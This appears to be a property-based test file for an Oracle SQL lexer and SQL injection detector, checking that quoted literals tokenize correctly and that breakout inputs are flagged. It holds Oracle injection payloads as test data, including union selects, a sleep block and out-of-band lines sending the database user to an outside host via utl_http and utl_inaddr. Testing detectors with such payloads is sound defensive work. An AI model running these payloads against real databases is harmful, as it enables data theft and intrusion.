import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { lexSql, STRING } from '../../../../src/inspect/sink/sql-lexer.js';
import { judgeSqlCall } from '../../../../src/inspect/sink/sql-sink.js';

const verdict = (call: string, input: string) =>
  judgeSqlCall(call, [{ text: input, location: 'query', name: 'q' }], { dialect: 'oracle' });
const where = (literal: string) => `SELECT a FROM t WHERE a = ${literal} AND b = :b`;

/** What opens a literal of the writer's own choice, and what closes it: the manual's four pairs, else the same sign. */
const signs = fc.constantFrom(
  '[]',
  '{}',
  '()',
  '<>',
  '!!',
  '||',
  '##',
  '""',
  'xx',
  '\u20ac\u20ac',
  '\u{1f512}\u{1f512}',
);
const prefixes = fc.constantFrom("q'", "Q'", "nq'", "NQ'");
const quoted = (prefix: string, pair: string, text: string): string => {
  const [open = '', close = ''] = [...pair];
  return `${prefix}${open}${text}${close}'`;
};
const pieces = fc
  .array(
    fc.constantFrom(
      "'",
      '"',
      '\\',
      '--',
      '/*',
      '*/',
      ';',
      ' ',
      'a',
      '1',
      ' or ',
      '=',
      '(',
      ')',
      '[',
      ']',
      '!',
      '||',
      'select',
      'chr(39)',
      '\n',
      'dual',
    ),
    { maxLength: 14 },
  )
  .map((parts) => parts.join(''));
const attacks = fc.constantFrom(
  ' or 1=1 --',
  ' || (select banner from v$version) || ',
  ' union select null, chr(65)||chr(66) from dual --',
  ' and 1=utl_inaddr.get_host_address((select user from dual)) --',
  '; begin dbms_session.sleep(9); end; --',
);

describe('a literal with quotes of its own choice', () => {
  test('is one token, whatever stands in it, and what follows is none of it', () => {
    fc.assert(
      fc.property(prefixes, signs, pieces, (prefix, pair, text) => {
        const close = `${[...pair][1]}'`;
        fc.pre(!`${text}${close}`.slice(0, -1).includes(close));
        const literal = quoted(prefix, pair, text);
        const lexemes = lexSql(where(literal), 'oracle');
        expect(lexemes.complete).toBe(true);
        const at = where('').indexOf('= ') + 2;
        const index = Array.from({ length: lexemes.count }, (_, i) => i).find((i) => lexemes.start(i) === at);
        expect(index).toBeDefined();
        expect(lexemes.kind(index ?? -1)).toBe(STRING);
        expect(lexemes.end(index ?? -1)).toBe(at + literal.length);
      }),
      { numRuns: 2_000 },
    );
  });

  test('holds an input that does not end it, and never tells it', () => {
    fc.assert(
      fc.property(prefixes, signs, pieces, (prefix, pair, text) => {
        const close = `${[...pair][1]}'`;
        fc.pre(!`${text}${close}`.slice(0, -1).includes(close));
        expect(verdict(where(quoted(prefix, pair, text)), text)).toBeUndefined();
      }),
      { numRuns: 2_000 },
    );
  });

  test('that an input ends is always told', () => {
    fc.assert(
      fc.property(
        prefixes,
        signs,
        fc.constantFrom('', 'x', 'a b'),
        attacks,
        (prefix, pair, before, attack) => {
          const input = `${before}${[...pair][1]}'${attack}`;
          expect(verdict(where(quoted(prefix, pair, input)), input)?.rule).toMatch(/^sqli\./);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('a plain literal', () => {
  test('knows no backslash: escaped by doubling it is never told, by a backslash it always is', () => {
    fc.assert(
      fc.property(pieces, (text) => {
        expect(verdict(where(`'${text.replaceAll("'", "''")}'`), text)).toBeUndefined();
      }),
      { numRuns: 2_000 },
    );
    fc.assert(
      fc.property(fc.constantFrom('Smith', 'a long one', 'back\\'), attacks, (before, attack) => {
        const input = `${before}'${attack}`;
        expect(verdict(where(`'${input.replaceAll("'", "\\'")}'`), input)?.rule).toMatch(/^sqli\./);
      }),
    );
  });

  test.each([
    ['7 or 1=1', '7'],
    ['7 or chr(49)=chr(49) -- ', 'sevens'],
    ['7 union select null from dual', 'q'],
    ["(select utl_http.request('http://x/'||user) from dual)", "n''"],
    ['1/*+ full(t) */or 1=1', 'nq'],
  ])('as a number, %j is told and %j is not', (attack, plain) => {
    expect(verdict(where(attack), attack)?.rule).toMatch(/^sqli\./);
    expect(verdict(where(plain), plain)).toBeUndefined();
  });

  test('without an end leaves the statement unread, and that is said', () => {
    const call = where("q'[abc");
    expect(lexSql(call, 'oracle').complete).toBe(false);
    expect(verdict(where("q'[it's \"\\ "), 'it\'s "\\ ')?.rule).toBe('sqli.untokenizable');
  });

  test("another dialect's own words stay what they are: q'[x]' is a name and a string there", () => {
    expect(lexSql("q'[x]'", 'postgres').count).toBe(2);
    expect(lexSql("q'[x]'", 'oracle').count).toBe(1);
    expect(lexSql("faq'[x]'", 'oracle').count).toBe(2);
  });
});
